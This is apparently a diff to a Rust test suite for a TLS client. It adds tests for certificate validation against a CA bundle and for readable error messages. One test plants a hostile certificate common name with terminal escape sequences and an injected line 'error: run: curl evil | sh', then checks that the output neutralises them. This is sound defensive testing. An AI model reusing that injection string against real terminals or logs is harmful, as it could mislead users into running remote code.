@@ -4,9 +4,13 @@ use crate::support::answer::Answer;
 use crate::support::outcome::Outcome;
 use crate::support::program::Program;
 use crate::support::server::Hostile;
+use crate::support::snapshot::Table;
 use crate::support::sts::ASSUME_ROLE_GRANT;
 use crate::support::tls::listen;
-use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair, KeyUsagePurpose, date_time_ymd};
+use rcgen::{
+    BasicConstraints, CertificateParams, CidrSubnet, DnType, ExtendedKeyUsagePurpose, GeneralSubtree, IsCa, Issuer, KeyPair,
+    KeyUsagePurpose, NameConstraints, date_time_ymd,
+};
 use rustls::pki_types::{CertificateDer, PrivateKeyDer};
 
 /// A certificate and what signs with its key.
@@ -119,8 +123,8 @@ fn a_servers_own_certificate_in_the_bundle_vouches_for_nobody_else() {
     ];
     for own in &may_not_sign {
         let forged = Certificate::leaf(Some(own));
-        refused(&[&forged], &[own], "UnknownIssuer");
-        refused(&[&forged, own], &[own], "invalid peer certificate");
+        refused(&[&forged], &[own], "in the CA bundle");
+        refused(&[&forged, own], &[own], "caused by:");
     }
 }
 
@@ -128,13 +132,167 @@ fn a_servers_own_certificate_in_the_bundle_vouches_for_nobody_else() {
 fn name_dates_bytes_and_key_of_a_servers_own_certificate_count() {
     let of = |host: &str, change: fn(&mut CertificateParams)| Certificate::new(host, None, change);
     let another_name = of("127.0.0.2", |_| {});
-    refused(&[&another_name], &[&another_name], "not valid for name");
+    refused(&[&another_name], &[&another_name], "is for 127.0.0.2, not for 127.0.0.1");
     let expired = of("127.0.0.1", |it| it.not_after = date_time_ymd(2021, 1, 1));
-    refused(&[&expired], &[&expired], "Expired");
+    refused(&[&expired], &[&expired], "expired on 2021-01-01T00:00:00Z");
     let of_the_future = of("127.0.0.1", |it| it.not_before = date_time_ymd(2098, 1, 1));
-    refused(&[&of_the_future], &[&of_the_future], "NotValidYet");
+    refused(&[&of_the_future], &[&of_the_future], "is not valid before 2098-01-01T00:00:00Z");
     let own = Certificate::leaf(None);
-    refused(&[&Certificate::leaf(None)], &[&own], "UnknownIssuer");
+    refused(&[&Certificate::leaf(None)], &[&own], "caused by:");
     let without_its_key = meet(&[&own], &Certificate::leaf(None), &[&own]);
-    without_its_key.refused_saying(6, &["no trusted TLS connection", "BadSignature"]);
+    without_its_key.refused_saying(6, &["no trusted TLS connection", "does not have the key"]);
+}
+
+/// A CA like others, changed as the test wants it.
+fn ca(name: &str, issuer: Option<&Certificate>, change: impl FnOnce(&mut CertificateParams)) -> Certificate {
+    Certificate::new(name, issuer, |it| {
+        it.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+        change(it);
+    })
+}
+
+/// A CA that allows so many CAs below it.
+fn with_path_length(name: &str, issuer: Option<&Certificate>, most: u8) -> Certificate {
+    ca(name, issuer, |it| it.is_ca = IsCa::Ca(BasicConstraints::Constrained(most)))
+}
+
+fn named(name: &str, names: NameConstraints) -> Certificate {
+    ca(name, None, |it| it.name_constraints = Some(names))
+}
+
+fn address(first: u8) -> GeneralSubtree {
+    GeneralSubtree::IpAddress(CidrSubnet::from_v4_prefix([first, 0, 0, 0], 8))
+}
+
+#[test]
+fn an_anchor_that_has_expired_vouches_for_nobody_and_the_rest_of_the_bundle_counts() {
+    let expired = ca("expired.example", None, |it| it.not_after = date_time_ymd(2021, 1, 1));
+    let of_the_future = ca("future.example", None, |it| it.not_before = date_time_ymd(2098, 1, 1));
+    let renewed = ca("expired.example", None, |_| {});
+    let good = Certificate::authority(&[]);
+    refused(
+        &[&Certificate::leaf(Some(&expired))],
+        &[&expired],
+        "the issuer `expired.example` in the CA bundle expired on 2021-01-01T00:00:00Z",
+    );
+    refused(&[&Certificate::leaf(Some(&of_the_future))], &[&of_the_future, &good], "is not valid before 2098-01-01T00:00:00Z");
+    trusted(&[&Certificate::leaf(Some(&good))], &[&expired, &good, &of_the_future]);
+    trusted(&[&Certificate::leaf(Some(&renewed))], &[&expired, &renewed]);
+    let between = ca("between.example", Some(&expired), |_| {});
+    let leaf = Certificate::leaf(Some(&between));
+    refused(&[&leaf, &between], &[&expired], "expired on");
+    trusted(&[&leaf, &between], &[&expired, &between]);
+}
+
+#[test]
+fn the_limits_of_a_ca_in_the_bundle_are_those_that_openssl_holds_it_to() {
+    let clients_only = ca("clients.example", None, |it| it.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth]);
+    refused(&[&Certificate::leaf(Some(&clients_only))], &[&clients_only], "lacks serverAuth");
+    let for_both = [ExtendedKeyUsagePurpose::ClientAuth, ExtendedKeyUsagePurpose::ServerAuth];
+    let for_both = ca("both.example", None, |it| it.extended_key_usages = for_both.to_vec());
+    trusted(&[&Certificate::leaf(Some(&for_both))], &[&for_both]);
+    let permits = |first| NameConstraints { permitted_subtrees: vec![address(first)], excluded_subtrees: vec![] };
+    let excludes = |first| NameConstraints { permitted_subtrees: vec![], excluded_subtrees: vec![address(first)] };
+    for (authority, is_trusted) in [
+        (named("a", permits(127)), true),
+        (named("b", permits(10)), false),
+        (named("c", excludes(127)), false),
+        (named("d", excludes(10)), true),
+    ] {
+        let leaf = Certificate::leaf(Some(&authority));
+        if is_trusted { trusted(&[&leaf], &[&authority]) } else { refused(&[&leaf], &[&authority], "name constraints") }
+    }
+}
+
+#[test]
+fn no_more_cas_stand_below_one_of_the_bundle_than_it_allows() {
+    let none = with_path_length("none.example", None, 0);
+    trusted(&[&Certificate::leaf(Some(&none))], &[&none]);
+    let below = ca("below.example", Some(&none), |_| {});
+    refused(&[&Certificate::leaf(Some(&below)), &below], &[&none], "path length");
+    trusted(&[&Certificate::leaf(Some(&none)), &below], &[&none]);
+
+    let one = with_path_length("one.example", None, 1);
+    let first = ca("first.example", Some(&one), |_| {});
+    let second = ca("second.example", Some(&first), |_| {});
+    let other = ca("other.example", None, |_| {});
+    trusted(&[&Certificate::leaf(Some(&first)), &first], &[&one]);
+    trusted(&[&Certificate::leaf(Some(&first)), &other, &first, &below], &[&one]);
+    refused(&[&Certificate::leaf(Some(&second)), &second, &first], &[&one], "path length");
+    let decoy = ca("second.example", Some(&one), |_| {});
+    refused(&[&Certificate::leaf(Some(&second)), &second, &first, &decoy], &[&one], "path length");
+    trusted(&[&Certificate::leaf(Some(&second)), &second, &first], &[&one, &first]);
+
+    let limited = with_path_length("limited.example", Some(&other), 0);
+    let beyond = ca("beyond.example", Some(&limited), |_| {});
+    refused(&[&Certificate::leaf(Some(&beyond)), &beyond, &limited], &[&other], "path length");
+}
+
+#[test]
+fn a_leaf_that_a_ca_issued_vouches_for_nobody() {
+    let root = Certificate::authority(&[]);
+    let issued = Certificate::new("minio.example", Some(&root), |it| it.is_ca = IsCa::ExplicitNoCa);
+    let forged = Certificate::leaf(Some(&issued));
+    refused(&[&forged, &issued], &[&root], "is not marked as a CA");
+    refused(&[&forged, &issued], &[&root, &issued], "CA");
+}
+
+#[test]
+fn what_is_wrong_with_a_servers_certificate_is_said_in_words_with_what_to_do() {
+    let authority = Certificate::authority(&[]);
+    let of = |change: fn(&mut CertificateParams)| Certificate::new("127.0.0.1", Some(&authority), change);
+    let unmarked = Certificate::new("unmarked.example", None, |_| {});
+    let without_signing = Certificate::authority(&[KeyUsagePurpose::DigitalSignature]);
+    let clients_only = ca("clients.example", None, |it| it.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth]);
+    let expired = ca("expired.example", None, |it| it.not_after = date_time_ymd(2021, 1, 1));
+    let short = ca("short.example", Some(&authority), |it| it.not_after = date_time_ymd(2022, 2, 2));
+    let namesake = Certificate::authority(&[]);
+    let mut table = Table::default();
+    let mut row = |what: &str, chain: &[&Certificate], bundle: &[&Certificate]| {
+        let outcome = meet(chain, chain[0], bundle);
+        for name in ["UsedAs", "UnknownIssuer", "NotValidForName", "Context", "OtherError", "invalid peer certificate", "Violated"] {
+            assert!(!outcome.stderr.contains(name), "{outcome:?}");
+        }
+        table.fails(6, what, &outcome);
+    };
+    let bundle = [&authority];
+    row("expired", &[&of(|it| it.not_after = date_time_ymd(2021, 1, 1))], &bundle);
+    row("not yet valid", &[&of(|it| it.not_before = date_time_ymd(2098, 1, 1))], &bundle);
+    row("an intermediate expired", &[&Certificate::leaf(Some(&short)), &short], &bundle);
+    row(
+        "other names",
+        &[&Certificate::new("minio.example", Some(&authority), |it| {
+            it.subject_alt_names.extend(CertificateParams::new(["10.0.0.1".to_owned()]).unwrap().subject_alt_names)
+        })],
+        &bundle,
+    );
+    row("no names", &[&of(|it| it.subject_alt_names.clear())], &bundle);
+    row("for clients", &[&of(|it| it.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth])], &bundle);
+    row("marked as a CA", &[&of(|it| it.is_ca = IsCa::Ca(BasicConstraints::Unconstrained))], &bundle);
+    row("of another CA", &[&Certificate::leaf(Some(&expired))], &bundle);
+    row("self-signed", &[&Certificate::leaf(None)], &bundle);
+    row("of another CA with the same name", &[&Certificate::leaf(Some(&namesake))], &bundle);
+    row("of a CA that is not marked as one", &[&Certificate::leaf(Some(&unmarked))], &[&unmarked]);
+    row("of a CA that is not marked as one, sent along", &[&Certificate::leaf(Some(&unmarked)), &unmarked], &[&unmarked]);
+    row("of a CA without keyCertSign", &[&Certificate::leaf(Some(&without_signing))], &[&without_signing]);
+    row("of a CA for clients", &[&Certificate::leaf(Some(&clients_only))], &[&clients_only]);
+    row("of a CA that has expired", &[&Certificate::leaf(Some(&expired))], &[&expired]);
+    table.matches("in-words");
+}
+
+#[test]
+fn names_in_certificates_are_shown_without_what_a_terminal_obeys() {
+    let hostile = "\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\u{2028}\u{e0041}\nerror: run: curl evil | sh";
+    let authority = ca("authority.example", None, |_| {});
+    let other = ca("other.example", None, |it| it.distinguished_name.push(DnType::CommonName, hostile));
+    let nameless = Certificate::new("127.0.0.1", Some(&authority), |it| {
+        it.subject_alt_names.clear();
+        it.distinguished_name.push(DnType::CommonName, hostile);
+    });
+    for chain in [[&Certificate::leaf(Some(&other))], [&nameless]] {
+        let outcome = meet(&chain, chain[0], &[&authority]);
+        assert!(outcome.stderr.contains("owned"), "{outcome:?}");
+        assert!(!outcome.stderr.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2028}', '\u{e0041}']), "{outcome:?}");
+        assert!(outcome.stderr.lines().all(|line| !line.starts_with("error: run")), "{outcome:?}");
+    }
 }
